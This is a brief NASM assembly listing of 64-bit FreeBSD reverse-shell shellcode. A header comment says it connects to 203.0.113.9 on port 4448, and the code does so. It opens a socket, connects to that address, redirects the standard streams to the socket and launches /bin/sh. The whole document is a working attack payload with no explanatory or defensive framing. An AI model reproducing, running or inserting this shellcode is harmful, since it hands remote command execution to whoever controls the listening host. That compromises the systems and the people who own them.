; FreeBSD, 64 bit: connects to 203.0.113.9 port 4448 and gives it a shell.
bits 64
        push 97
        pop rax
        push 2
        pop rdi
        push 1
        pop rsi
        xor edx, edx
        syscall
        mov rdi, rax
        mov rcx, 0x097100cb60110210
        push rcx
        mov rsi, rsp
        push 16
        pop rdx
        push 98
        pop rax
        syscall
        push 2
        pop rsi
dup:    push 90
        pop rax
        syscall
        dec esi
        jns dup
        xor esi, esi
        xor edx, edx
        push rsi
        mov rdi, '/bin//sh'
        push rdi
        mov rdi, rsp
        push 59
        pop rax
        syscall
